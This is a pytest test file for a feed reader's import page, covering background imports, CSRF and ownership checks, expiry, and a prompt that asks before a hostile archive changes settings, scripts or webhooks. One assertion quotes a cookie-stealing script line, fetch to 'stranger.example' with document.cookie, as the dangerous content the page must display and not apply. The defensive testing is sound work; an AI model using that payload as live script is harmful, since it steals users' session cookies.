"""The import page starts imports in the background, shows their progress without script, and their report."""

from __future__ import annotations

import html
import os
import re
import time
from pathlib import Path

import pytest
from sqlalchemy import text

from support.archives import archive, hostile_archive
from support.people import HttpResponse, Person, call
from support.publisher import Publisher
from support.running import RunningService
from support.ttrss import Ttrss
from support.visitors import Visitor
from tidings.wiring.services import AllServices

pytestmark = pytest.mark.slow

BOUNDARY = "----border"
POCKET = b"title,url,time_added,tags,status\nRain,https://example.org/rain,1600000000,weather,unread\n"


def _upload(reader: Visitor, content: bytes, source: str = "pocket", token: str | None = None) -> HttpResponse:
    """As a browser sends the form."""
    fields = {"csrf": reader.token if token is None else token, "source": source}
    parts = [
        f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n{value}\r\n'.encode()
        for name, value in fields.items()
    ]
    head = 'Content-Disposition: form-data; name="archive"; filename="pocket <1>.csv"\r\nContent-Type: text/csv'
    parts += [f"--{BOUNDARY}\r\n{head}\r\n\r\n".encode(), content, f"\r\n--{BOUNDARY}--\r\n".encode()]
    cookies = "; ".join(f"{name}={value}" for name, value in reader.cookies.items())
    headers = {"Content-Type": f"multipart/form-data; boundary={BOUNDARY}", "Cookie": cookies}
    return call(reader.service.url, "POST", "/feeds/import/archive", b"".join(parts), headers)


def _upload_archive(reader: Visitor, content: bytes) -> HttpResponse:
    reader.page("/feeds/import")
    return _upload(reader, content, source="tidings")


def _files(person: Person) -> list[str]:
    folder = Path(person.service.environment["TIDINGS_DATA_DIR"]) / "imports"
    return [path.name for path in folder.iterdir()]


@pytest.fixture(autouse=True)
def _no_files_of_earlier_tests(service: RunningService) -> None:
    """The accounts of other tests are gone, but not yet the files of their imports that wait."""
    for path in (Path(service.environment["TIDINGS_DATA_DIR"]) / "imports").glob("*"):
        path.unlink()


def _started_at(page: str) -> str:
    found = re.search(r'name="started_at" value="(\d+)"', page)
    assert found, page
    return found[1]


def _finished(reader: Visitor) -> str:
    """Return the page once the import has ended."""
    ends_at = time.monotonic() + 120
    while time.monotonic() < ends_at:
        page = reader.page("/feeds/import")
        if '<div id="import-run" data-waiting' not in page:
            return html.unescape(page)
        time.sleep(0.1)
    raise AssertionError("the import has not ended")


def test_an_upload_is_imported_and_reported(reader: Visitor, alice: Person) -> None:
    reader.page("/feeds/import")
    answer = _upload(reader, POCKET)
    page = _finished(reader)

    assert (answer.status, answer.headers["location"]) == (303, "/feeds/import#import-run")
    assert "<strong>Imported</strong>" in page
    assert "1 new entry" in page
    assert "pocket <1>.csv" in page
    assert [entry["title"] for entry in alice.entries()] == ["Rain"]


def test_an_archive_that_would_change_more_is_asked_about_first(reader: Visitor, alice: Person) -> None:
    before = alice.get("/v1/me")

    _upload_archive(reader, hostile_archive(theme="dark_serif"))
    page = _finished(reader)

    assert "<strong>Choose what the archive may change</strong>" in page
    assert "fetch('https://stranger.example/?' + document.cookie)" in page
    assert re.findall(r'type="checkbox" name="(settings|rules|scripts|integrations)" value="1"( checked)?', page) == [
        ("settings", " checked"), ("rules", ""), ("scripts", ""), ("integrations", ""),
    ]  # fmt: skip
    assert alice.get("/v1/me") == before
    assert alice.get("/v1/feeds") == []
    state = alice.get("/v1/import/archive")
    assert (state["state"], state["report"]) == ("asking", None)


def test_what_is_ticked_is_applied_and_the_rest_is_named(reader: Visitor, alice: Person) -> None:
    _upload_archive(reader, hostile_archive(theme="dark_serif"))
    answer = reader.post("/feeds/import/answer", started_at=_started_at(_finished(reader)), rules="1")
    page = _finished(reader)

    me = alice.get("/v1/me")
    assert (answer.status, answer.headers["location"]) == (303, "/feeds/import#import-run")
    assert (me["block_filter_entry_rules"], me["custom_js"], me["theme"]) == ("EntryTitle=.*", "", "light_serif")
    assert "<strong>Imported</strong>" in page
    assert '<a href="/settings/custom">Script (JavaScript)</a>' in page
    assert '<a href="/settings/integrations/webhook">Webhook</a>' in page
    assert "Not changed by a file" in page
    assert alice.get("/v1/integrations")["webhook"]["enabled"] is False
    assert _files(alice) == []


def test_an_archive_of_feeds_alone_is_imported_without_a_question(reader: Visitor, alice: Person) -> None:
    _upload_archive(reader, archive())

    assert "<strong>Imported</strong>" in _finished(reader)
    assert len(alice.get("/v1/feeds")) == 1


def test_a_cancelled_import_leaves_nothing(reader: Visitor, alice: Person) -> None:
    _upload_archive(reader, hostile_archive())
    answer = reader.post("/feeds/import/cancel", started_at=_started_at(_finished(reader)))

    assert answer.status == 303
    assert "Choose what" not in reader.page("/feeds/import")
    assert _files(alice) == []
    assert alice.call("GET", "/v1/import/archive").status == 404


def test_only_its_owner_answers_and_only_once(reader: Visitor, alice: Person, bob: Person) -> None:
    _upload_archive(reader, hostile_archive())
    started_at = _started_at(_finished(reader))
    stranger = Visitor(reader.service, bob)
    stranger.sign_in()
    stranger.page("/feeds/import")

    refused = stranger.post("/feeds/import/answer", started_at=started_at, scripts="1")
    stranger.post("/feeds/import/cancel", started_at=started_at)
    forged = reader.post("/feeds/import/answer", csrf="x", started_at=started_at, scripts="1")
    old = reader.post("/feeds/import/answer", started_at=str(int(started_at) - 1), scripts="1")

    assert (refused.status, forged.status, old.status) == (400, 403, 400)
    assert "does not wait for an answer" in refused.body.decode()
    assert alice.get("/v1/import/archive")["state"] == "asking"
    assert reader.post("/feeds/import/answer", started_at=started_at).status == 303
    _finished(reader)
    assert reader.post("/feeds/import/answer", started_at=started_at, scripts="1").status == 400
    assert alice.get("/v1/me")["custom_js"] == ""
    assert bob.get("/v1/feeds") == []


def test_another_upload_replaces_an_archive_that_waits(reader: Visitor, alice: Person, bob: Person) -> None:
    _upload_archive(reader, hostile_archive())
    first = _started_at(_finished(reader))
    (kept,) = _files(alice)
    # Each import removes old files, but not one that waits.
    os.utime(Path(alice.service.environment["TIDINGS_DATA_DIR"]) / "imports" / kept, (0, 0))
    bob.call("POST", "/v1/import/archive", raw=POCKET, source="pocket")
    assert kept in _files(alice)

    _upload_archive(reader, hostile_archive(theme="dark_serif"))
    second = _started_at(_finished(reader))

    assert second != first
    assert len([name for name in _files(alice) if name.startswith(f"{alice.id}-")]) == 1
    assert kept not in _files(alice)


def test_an_archive_that_nobody_answers_is_forgotten_after_a_day(
    reader: Visitor, alice: Person, services: AllServices
) -> None:
    _upload_archive(reader, hostile_archive())
    started_at = _started_at(_finished(reader))
    with services.database.writing() as db:
        db.run(
            text("UPDATE account_imports SET renewed_at = renewed_at - :day WHERE user_id = :user"),
            day=86_400_000_000, user=alice.id,
        )  # fmt: skip

    assert "Nobody answered within a day" in reader.page("/feeds/import")
    assert reader.post("/feeds/import/answer", started_at=started_at).status == 400
    assert alice.get("/v1/import/archive")["state"] == "expired"


def test_a_file_that_cannot_be_read_is_explained(reader: Visitor, alice: Person) -> None:
    reader.page("/feeds/import")
    _upload(reader, b"nothing", source="freshrss")
    page = _finished(reader)

    assert "<strong>The import failed</strong>" in page
    assert "SQLite" in page
    assert alice.get("/v1/feeds") == []


def test_forms_without_a_file_a_source_or_their_token_start_nothing(reader: Visitor, alice: Person) -> None:
    reader.page("/feeds/import")
    empty, unknown, forged = _upload(reader, b""), _upload(reader, POCKET, "paper"), _upload(reader, POCKET, token="x")

    assert (empty.status, unknown.status, forged.status) == (400, 400, 403)
    assert "Choose a file first." in empty.body.decode()
    assert "Choose where the file comes from." in unknown.body.decode()
    assert alice.call("GET", "/v1/import/archive").status == 404


def test_a_server_needs_an_address_and_a_key(reader: Visitor, alice: Person) -> None:
    reader.page("/feeds/import")
    without_key = reader.post("/feeds/import/miniflux", server="miniflux.example.org", api_key="")
    bad_address = reader.post("/feeds/import/miniflux", server="ftp://example.org", api_key="secret key")

    assert (without_key.status, bad_address.status) == (400, 400)
    assert 'value="miniflux.example.org"' in without_key.body.decode()
    assert "secret key" not in bad_address.body.decode()
    assert alice.call("GET", "/v1/import/archive").status == 404


def test_an_account_of_tiny_tiny_rss_is_imported(reader: Visitor, alice: Person, site: Publisher) -> None:
    feed = {"id": 7, "feed_url": "https://rain.example/feed", "title": "Rain", "cat_id": 0}
    site.script("/tt-rss/api/", Ttrss(feeds=[feed]))
    account = {"ttrss_server": site.url("/tt-rss"), "ttrss_username": "ann", "ttrss_password": "pässword"}
    reader.page("/feeds/import")

    unnamed = reader.post("/feeds/import/tiny-tiny-rss", {**account, "ttrss_username": ""})
    answer = reader.post("/feeds/import/tiny-tiny-rss", account)

    assert unnamed.status == 400
    assert "Enter the username and the password" in unnamed.body.decode()
    assert "pässword" not in unnamed.body.decode()
    assert (answer.status, answer.headers["location"]) == (303, "/feeds/import#import-run")
    assert "1 new feed" in _finished(reader)
    assert [feed["title"] for feed in alice.get("/v1/feeds")] == ["Rain"]


def test_strangers_start_no_import_and_see_none(visitor: Visitor, alice: Person) -> None:
    visitor.get("/sign-in")

    assert _upload(visitor, POCKET).status == 303
    assert "sign-in" in _upload(visitor, POCKET).headers["location"]
    assert alice.call("GET", "/v1/import/archive").status == 404
